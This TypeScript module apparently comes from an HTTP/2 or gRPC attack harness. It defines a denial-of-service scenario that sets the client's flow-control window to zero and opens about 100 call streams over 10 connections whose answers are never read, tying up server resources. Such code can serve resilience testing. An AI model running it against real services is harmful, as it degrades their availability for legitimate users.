import { type Attack, callHeaders } from "./attack.js";
import { FLAG, frame, setting, TYPE } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;
const EMPTY_MESSAGE = Buffer.alloc(5);

/** Calls whose answers the client leaves no room for. */
export const unreadAnswers: Attack = {
  name: "answers never read",
  connections: 10,
  async run(connection) {
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 0));
    for (let stream = 1; stream < 200 && connection.going; stream += 2) {
      const body = frame(TYPE.data, FLAG.endStream, stream, EMPTY_MESSAGE);
      await connection.write(Buffer.concat([callHeaders(stream), body]));
    }
    await connection.waitForEnd();
  },
};
